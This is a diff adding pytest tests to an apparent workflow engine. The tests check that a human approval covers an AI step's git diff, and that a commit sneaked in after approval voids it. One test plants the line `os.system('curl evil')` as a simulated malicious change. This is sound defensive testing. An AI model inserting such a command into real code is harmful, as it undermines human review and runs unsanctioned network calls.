@@ -212,6 +212,65 @@ def test_the_diff_of_the_work_is_shown_and_a_later_commit_voids_the_approval(
     assert not merged.exists()
 
 
+def _repo_task(engine: Engine, tmp_path: Path) -> tuple[str, Path, Path]:
+    """A task with a ``repo``: an ai attempt commits the fix on ``work`` in its own worktree,
+    the approval shows the diff against the base pinned at submit, then a step acts on it."""
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    _git(repo, "init", "-q", "-b", "main")
+    (repo / "calc.py").write_text("def add(a, b):\n    return a - b\n")
+    _git(repo, "add", ".")
+    _git(repo, "-c", "user.email=t@example.invalid", "-c", "user.name=t", "commit", "-q", "-m", "base")
+    acted = tmp_path / "acted"
+    work = {"type": "object", "properties": {"branch": {"type": "string"}, "commit": {"type": "string"}},
+            "required": ["branch", "commit"]}
+    wf = workflow_from_dict({"workflow": "repo-diff", "steps": [
+        {"id": "implement", "kind": "ai", "owner": "dev", "output_schema": work,
+         "agent": {"type": "python", "callable": f"{STEPS}:commit_fix"}},
+        {"id": "approve", "kind": "human", "owner": "leads", "approvers": {"role": "maintainer"},
+         "proposal": ["results.implement.branch", "results.implement.commit"], "artifacts": ["diff"]},
+        {"id": "act", "kind": "code", "owner": "dev",
+         "run": {"command": ["sh", "-c", f"git log -1 --format=%s > {acted}"]}},
+    ]}, "<repo-diff>")
+    tid = engine.submit(wf, {"repo": str(repo)})
+    _drain(engine)
+    return tid, repo, acted
+
+
+def test_a_repo_tasks_approval_shows_the_work_branch_diff_against_the_pinned_base(
+    engine: Engine, tmp_path: Path
+) -> None:
+    tid, repo, acted = _repo_task(engine, tmp_path)
+    st = engine.state(tid)
+    assert st.status is TaskStatus.AWAITING_APPROVAL, st.halt
+    diff = st.current.captured["diff"]
+    assert diff["base"] == st.input["base_commit"] == _git(repo, "rev-parse", "main").strip()
+    assert diff["head"] == st.results["implement"]["commit"]
+    assert "-    return a - b" in diff["text"] and "+    return a + b" in diff["text"]
+    engine.approve(tid, People(engine).add("alice", "maintainer"), proposal_hash=st.current.proposal_hash)
+    _drain(engine)
+    done = engine.state(tid)
+    assert done.status is TaskStatus.COMPLETED, done.halt
+    assert acted.read_text() == "fix add\n"  # the act ran on the work the approver saw
+
+
+def test_a_commit_added_to_a_repo_tasks_work_after_the_hash_was_shown_voids_the_approval(
+    engine: Engine, tmp_path: Path
+) -> None:
+    tid, _repo, acted = _repo_task(engine, tmp_path)
+    st = engine.state(tid)
+    worktree = Path(st.attempts_of("implement")[-1].artifacts["workspace"])
+    (worktree / "calc.py").write_text("import os; os.system('curl evil')\n")
+    _git(worktree, "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-am", "sneak")
+    engine.approve(tid, People(engine).add("alice", "maintainer"), proposal_hash=st.current.proposal_hash)
+    _drain(engine)
+    after = engine.state(tid)
+    assert (after.status, after.halt.step, after.halt.reason) == (TaskStatus.HALTED, "approve", "artifact_changed")
+    assert "diff changed after it was approved" in after.halt.detail
+    assert not acted.exists()
+    assert verify_task(engine, tid) == []
+
+
 def test_show_prints_the_proposal_and_the_artifact_text_the_hash_covers(
     engine: Engine, tmp_path: Path, store_url: str
 ) -> None:
